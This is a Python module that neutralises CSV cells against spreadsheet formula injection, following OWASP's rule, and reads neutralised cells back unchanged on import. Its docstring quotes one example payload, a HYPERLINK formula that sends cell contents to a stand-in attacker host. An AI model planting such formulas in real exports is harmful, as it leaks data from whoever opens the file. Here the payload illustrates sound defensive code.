"""CSV cells a spreadsheet program shows as text, never runs (OWASP's rule
against CSV formula injection), and our own import reads back unchanged.

A spreadsheet program opening a CSV file takes a cell that begins with `=`,
`+`, `-` or `@` (some also one that begins with a tab or a carriage
return) as a formula: an entrant registered as `=HYPERLINK("http://evil.example/?x="&A1;"click")`
would be a live link, or worse, in the results an organizer opens.  So every
CSV the hub writes goes through `csv_text`:

- a text cell that begins with one of those characters (DANGEROUS) gets a
  single quote in front (`'=HYPERLINK(...)`: text to the spreadsheet);
- a text cell that begins with single quotes and then one of them gets one
  more, so that `read_cell` can tell our quote from the text's own;
- every text cell is in double quotes (OWASP: a separator or quote in the
  text cannot start a new cell);
- numbers the hub computed (Python ints: places, `_ms` columns, pieces) are
  written bare, a negative one as `-5000`: a number is never a formula, and
  a quote would turn it into text that no sum counts.  A negative time as
  text (`-0:00:05`) is text and is quoted like any other.

`read_cell` is the inverse, used by the event folder's CSV import
(event_folder.py): a cell that begins with a single quote followed (after
any more single quotes) by a DANGEROUS character loses that first quote, so
a name the hub wrote reads back as it was, and so does one a registration
tool exported neutralised the same way.  Any other cell is read as it is: a
name that really begins with a quote, as `'t Hooft`, keeps it.
"""

from __future__ import annotations

import csv
import io
from typing import Iterable, Sequence

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    return text.lstrip(QUOTE)[:1] in DANGEROUS


def neutralise(text: str) -> str:
    """A text as a spreadsheet-safe cell (the module docstring)."""
    return QUOTE + text if _needs_quote(text) else text


def read_cell(cell: str) -> str:
    """A cell as `neutralise` was given it: neutralise's quote taken off."""
    return cell[1:] if cell.startswith(QUOTE) and _needs_quote(cell) else cell


def cell(value: object) -> object:
    """A value as csv.writer is to write it: an int or float as it is, None
    as an empty text, anything else as neutralised text."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    return "" if value is None else neutralise(str(value))


def csv_text(rows: Iterable[Sequence[object]], lineterminator: str = "\r\n", delimiter: str = ",") -> str:
    """Rows (the header first) as CSV text: comma (or delimiter) separated,
    each text cell neutralised and in double quotes, numbers bare."""
    out = io.StringIO()
    w = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator=lineterminator, delimiter=delimiter)
    for row in rows:
        w.writerow([cell(v) for v in row])
    return out.getvalue()
